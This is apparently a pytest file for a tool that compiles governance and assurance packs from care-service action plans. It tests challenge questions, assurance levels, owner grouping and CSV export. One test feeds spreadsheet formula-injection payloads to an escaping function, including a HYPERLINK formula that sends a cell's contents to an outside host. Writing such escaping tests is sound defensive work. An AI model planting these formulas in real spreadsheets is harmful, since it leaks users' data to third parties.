"""The short packs' view models and helpers, without files: questions, assurance, owners, CSV safety."""
from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest

from compiler import pipeline
from compiler.model.assessment import ActionResult, Closure, ClosureCheck
from compiler.model.finding import Finding
from compiler.packs.assemble import assemble
from compiler.packs.profiles import load_profile
from compiler.packs.owners import gaps_csv
from compiler.render.spreadsheet import formula_safe as csv_safe
from compiler.views.board import assurance_level
from compiler.views.common import Options
from compiler.views.governance import governance_view
from compiler.views.owners import GAP_HEADER, owners_view

ROOT = Path(__file__).resolve().parents[2]
AS_OF = dt.date(2026, 11, 20)


@pytest.fixture(scope="module")
def assessment():
    return pipeline.check([ROOT / "examples" / "plans"], ROOT / "examples" / "evidence", AS_OF)


def packed(assessment, name):
    pack = assemble(assessment, load_profile(name))
    return pack, Options()


def test_challenge_questions_are_built_from_the_findings(assessment) -> None:
    pack, ctx = packed(assessment, "governance")
    texts = [q.text for q in governance_view(pack, ctx).questions]
    assert ("RH-02 is declared green but has 1 of the 2 supervision records it requires: "
            "what shows coaching changed practice?") in texts
    assert "RQ-04 was due on 31 October and is still in progress: what is the revised date and who agreed it?" in texts
    assert ("RP-01 has no linked risk indicator: how will the Committee know restrictive practice is reducing?"
            in texts)
    assert any(t.startswith("RH-04 is owned by “On-call team”") for t in texts)
    assert len(texts) == len(set(texts))


def test_governance_view_sections(assessment) -> None:
    pack, ctx = packed(assessment, "governance")
    g = governance_view(pack, ctx)
    assert [c.id for c in g.closures] == ["RP-03", "RH-03"]
    assert all(len(c.closure) == 4 for c in g.closures)
    assert g.closures[0].closure[0].evidence        # the exhibits/evidence behind each result
    assert {d.id for d in g.disagreements} == {"RH-02", "RH-04"}
    assert [o.id for o in g.overdue] == ["RQ-04"]


def _result(rag, declared=None, overdue=False, ready=False) -> ActionResult:
    ok = ClosureCheck(result="pass" if ready else "fail", reason="")
    return ActionResult(id="A-1", plan="P", owner="x", status="in_progress", declared_rag=declared,
                        assessed_rag=rag, overdue=overdue, closure=Closure(indicators=ok, audit=ok, staff=ok,
                                                                           governance=ok))


def _finding(severity, rule="SG302", action="A-1") -> Finding:
    return Finding(rule=rule, name="n", severity=severity, plan="P", action=action, message="m", hint="h")


@pytest.mark.parametrize("results, findings, level", [
    ([_result("green", ready=True), _result("blue", ready=True)], [], "Substantial assurance"),
    ([_result("green"), _result("amber")], [], "Reasonable assurance"),
    ([_result("green"), _result("green")], [_finding("warning", "SG308")], "Reasonable assurance"),
    ([_result("green", overdue=True), _result("green")], [], "Limited assurance"),
    ([_result("amber", declared="green"), _result("green"), _result("green")], [], "Limited assurance"),
    ([_result("green"), _result("green"), _result("green")], [_finding("error", action="A-9")], "Limited assurance"),
    ([_result("red"), _result("green")], [], "No assurance"),
    ([_result("green"), _result("green")], [_finding("error")], "No assurance"),
])
def test_assurance_mapping(results, findings, level) -> None:
    assert assurance_level(results, findings)[0] == level


def test_owners_group_unnamed_actions_under_unassigned(assessment) -> None:
    pack, ctx = packed(assessment, "owners")
    owners = owners_view(pack, ctx).owners
    assert owners[-1].name == "Unassigned" and [a.id for a in owners[-1].actions] == ["RH-04"]
    assert [o.slug for o in owners].count("unassigned") == 1
    assert "marcus-bell" in [o.slug for o in owners]
    aisha = next(o for o in owners if o.slug == "aisha-rahman")
    missing = aisha.actions[0].missing[0]
    assert (missing.type, missing.more, missing.due) == ("supervision", 1, "31 December 2026")


@pytest.mark.parametrize("cell, safe", [
    ("=HYPERLINK(\"http://x/?d=\"&A1,\"click\")", "'=HYPERLINK(\"http://x/?d=\"&A1,\"click\")"),
    ("+1", "'+1"), ("-5", "'-5"), ("@SUM(1)", "'@SUM(1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    (" =1+1", "' =1+1"), ("＝1", "'＝1"), ("RH-02", "RH-02"), ("", ""), ("2026-12-31", "2026-12-31"),
])
def test_csv_cells_cannot_start_a_formula(cell, safe) -> None:
    assert csv_safe(cell) == safe


def test_gaps_csv_is_bom_utf8_sorted_and_complete(assessment) -> None:
    pack, ctx = packed(assessment, "owners")
    data = gaps_csv(owners_view(pack, ctx).owners)
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == list(GAP_HEADER)
    body = rows[1:]
    assert any(r[1] == "RH-02" and r[5].startswith("supervision ×2") and "1 more supervision record" in r[6]
               for r in body)
    assert any(r[0] == "Unassigned" and r[1] == "RH-04" and r[5].startswith("SG201") for r in body)
    assert data == gaps_csv(owners_view(pack, ctx).owners)
